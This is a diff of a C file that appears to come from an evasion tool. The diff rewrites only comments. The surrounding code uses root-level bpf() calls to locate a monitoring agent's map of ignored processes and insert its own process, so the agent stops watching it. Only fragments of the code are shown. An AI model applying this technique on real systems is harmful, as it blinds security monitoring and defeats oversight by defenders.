@@ -1,4 +1,4 @@
-/* Turning away the agent itself. Root can; here it does so for no process but this one. */
+/* Deceiving the agent itself. Root can; here it does so only for this process. */
 #define _GNU_SOURCE
 #include "evasion.h"
 #include <errno.h>
@@ -20,7 +20,7 @@ static void set(int map, unsigned key, unsigned char value)
 	must("map", bpf(BPF_MAP_UPDATE_ELEM, &attributes));
 }
 
-/* Puts this process among those that are left out, if that is what the map says. */
+/* Adds this process to the ignored ones, if the map has that purpose. */
 static int leave_out(int map)
 {
 	struct bpf_map_info info = {0};
@@ -35,7 +35,7 @@ static int leave_out(int map)
 	return 1;
 }
 
-/* The agent keeps in a map whose calls it leaves out: its own. */
+/* The agent keeps a map of the processes that it ignores: its own. */
 static int read_left_out(int argc, char **argv)
 {
 	union bpf_attr attributes = {0};
@@ -50,7 +50,7 @@ static int read_left_out(int argc, char **argv)
 		map = bpf(BPF_MAP_GET_FD_BY_ID, &attributes);
 		memset(&attributes, 0, sizeof(attributes));
 		if (map < 0)
-			continue; /* gone meanwhile */
+			continue; /* it no longer exists */
 		found += leave_out(map);
 		close(map);
 	}
